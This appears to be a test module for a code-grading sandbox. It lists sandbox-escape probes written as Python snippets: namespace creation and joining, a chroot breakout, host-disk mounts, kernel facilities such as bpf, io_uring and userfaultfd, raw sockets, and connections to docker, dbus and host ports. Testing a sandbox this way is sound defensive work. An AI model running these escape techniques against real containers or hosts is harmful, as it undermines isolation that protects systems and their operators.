# ruff: noqa: E501 - what is handed in is text, and its longest lines stay as they would be written
"""Escaping through the kernel and the network."""

from tests.attacks.attack import RIGHT
from tests.attacks.escape_parts import escape_attack

KERNEL = [
    escape_attack("namespaces", "Makes namespaces of its own, in which it is root again.",
            """\
def make():
    for flags in (0x10000000, 0x10020000, 0x40000000, 0x02000000):
        if libc.unshare(flags) == 0: won(f'unshare {flags:x}')
apart(make)"""),
    escape_attack("clone-namespaces", "Makes a process in namespaces of its own, past a filter on unshare.",
            """\
for number, args in ((56, (0x10000011, 0, 0, 0, 0)), (435, (ctypes.create_string_buffer(struct.pack('<11Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)), 88))):
    pid = syscall(number, *args)
    if pid == 0: os._exit(0)
    if pid > 0:
        os.waitpid(pid, 0)
        won(f'clone {number}')"""),
    escape_attack("join-namespaces", "Joins the namespaces of the processes that started it.",
            """\
def join():
    for pid in (1, os.getppid()):
        for kind in ('user', 'mnt', 'pid', 'net', 'ipc'):
            try:
                fd = os.open(f'/proc/{pid}/ns/{kind}', os.O_RDONLY)
            except OSError:
                continue
            if os.readlink(f'/proc/{pid}/ns/{kind}') != os.readlink(f'/proc/self/ns/{kind}') and libc.setns(fd, 0) == 0:
                won(kind)
                plant()
apart(join)"""),
    escape_attack("mount", "Mounts over its folders, and the host's disk into them.",
            """\
def mount():
    os.makedirs('m', exist_ok=True)
    for source, kind, flags in (('none', 'tmpfs', 0), ('proc', 'proc', 0), ('/', '', 4096), ('none', 'overlay', 0)):
        if libc.mount(source.encode(), b'm', kind.encode() or None, flags, None) == 0: won(f'mount {kind}')
    if libc.mount(b'none', b'/', None, 0x20 | 4096, None) == 0: won('remount')
    for number in (428, 429, 430, 442):
        if syscall(number, -100, b'/', 1) >= 0: won(f'new mount call {number}')
    if libc.umount2(b'/proc', 2) == 0: won('umount')
apart(mount)""", dangerous=True),
    escape_attack("chroot", "Changes its root, and breaks out of the old one.",
            """\
def leave():
    try:
        os.makedirs('r', exist_ok=True)
        os.chroot('r')
        for _ in range(40): os.chdir('..')
        os.chroot('.')
        won('chroot')
        plant()
    except OSError:
        pass
apart(leave)"""),
    escape_attack("keyctl", "Keeps something in the kernel's key rings, which outlive a process.",
            """\
if syscall(250, 0, -3, 1) > 0: won('keyctl')
if syscall(248, b'user', b'@MARK@', b'x', 1, -4) > 0: won('add_key')"""),
    escape_attack("bpf", "Loads something into the kernel's own virtual machine.",
            "if syscall(321, 0, ctypes.create_string_buffer(struct.pack('<4I', 2, 4, 4, 1) + bytes(120)), 128) >= 0: won('bpf')"),
    escape_attack("userfaultfd", "Takes over the handling of its page faults, the usual help of an exploit.",
            "if syscall(323, 1 | os.O_CLOEXEC) >= 0: won('userfaultfd')"),
    escape_attack("io-uring", "Opens a ring through which system calls pass no filter.",
            "if syscall(425, 4, ctypes.create_string_buffer(120)) >= 0: won('io_uring')"),
    escape_attack("perf", "Opens the kernel's performance counters.",
            "if syscall(298, ctypes.create_string_buffer(struct.pack('<IIQQ', 1, 112, 1, 0) + bytes(88)), 0, -1, -1, 0) >= 0: won('perf_event_open')"),
    escape_attack("odd-syscalls", "Tries system calls that a grader's student never needs.",
            """\
for name, number, args in (('kcmp', 312, (os.getpid(), os.getpid(), 0, 0, 0)), ('fanotify_init', 300, (0, 0)), ('acct', 163, (0,)), ('iopl', 172, (3,)),
                           ('personality', 135, (0x0400000,)), ('memfd_secret', 447, (0,)), ('pivot_root', 155, (b'.', b'.')), ('swapoff', 168, (b'/none@MARK@',)),
                           ('lookup_dcookie', 212, (0, 0, 0)), ('modify_ldt', 154, (0, ctypes.create_string_buffer(64), 64))):
    result = syscall(number, *args)
    if result >= 0 or ctypes.get_errno() not in (1, 13, 38): won(f'{name} {result} {ctypes.get_errno()}')"""),
    escape_attack("x32-syscalls", "Makes system calls by their other numbers, which a filter may have forgotten.",
            "if syscall(0x40000000 + 39) == os.getpid(): won('x32')"),
]  # fmt: skip


NETWORK = [
    escape_attack("network", "Sends its notebook to a port of the host's and to an abstract socket.",
            """\
import socket
for family, kind, place in ((socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', int('@TCP@'))), (socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', int('@UDP@'))),
                            (socket.AF_UNIX, socket.SOCK_STREAM, '\\0@ABSTRACT@')):
    try:
        with socket.socket(family, kind) as sock:
            sock.settimeout(1)
            sock.connect(place)
            sock.send(b'@MARK@')
    except OSError:
        pass"""),
    escape_attack("network-from-a-check", "Sends what a check asks to a port of the host's.",
            """\
import socket
def send(word):
    for kind, port in ((socket.SOCK_STREAM, int('@TCP@')), (socket.SOCK_DGRAM, int('@UDP@'))):
        try:
            with socket.socket(socket.AF_INET, kind) as sock:
                sock.settimeout(0.2)
                sock.connect(('127.0.0.1', port))
                sock.send(b'@MARK@' + word.encode())
        except OSError:
            pass""",
            answers=RIGHT | {"spell": "def spell(word):\n    send(word)\n    return word[::-1]"}),
    escape_attack("routes", "Looks for a way out of the machine: interfaces, routes, name servers.",
            """\
import socket
if {name for _, name in socket.if_nameindex()} - {'lo'}: won('interfaces')
try:
    socket.create_connection(('192.0.2.1', 9), 0.3)
except OSError as error:
    if error.errno not in (101, 1, 13, 97, 93, 22): won(f'a route: {error}')"""),
    escape_attack("raw-sockets", "Opens sockets of families and kinds that a student never needs.",
            """\
import socket
for name, family, kind, protocol in (('packet', 17, 3, 0x0300), ('vsock', 40, 1, 0), ('netlink', 16, 3, 0), ('raw', 2, 3, 1), ('alg', 38, 5, 0),
                                     ('bluetooth', 31, 3, 1), ('can', 29, 3, 1), ('xdp', 44, 3, 0), ('key', 15, 3, 2), ('tipc', 30, 1, 0)):
    try:
        socket.socket(family, kind, protocol).close()
        won(name)
    except OSError:
        pass"""),
    escape_attack("service-sockets", "Talks to the services of the host: its bus, its containers, its windows.",
            """\
import socket
for place in ('/run/dbus/system_bus_socket', '/run/docker.sock', '/var/run/docker.sock', '/run/containerd/containerd.sock', '/tmp/.X11-unix/X0', '/run/systemd/private',
              '\\0/tmp/.X11-unix/X0', '/run/systemd/journal/socket', '/run/user/0/bus', '/run/munge/munge.socket.2'):
    try:
        with socket.socket(socket.AF_UNIX) as sock: sock.connect(place)
        won(place)
    except OSError:
        pass"""),
]  # fmt: skip
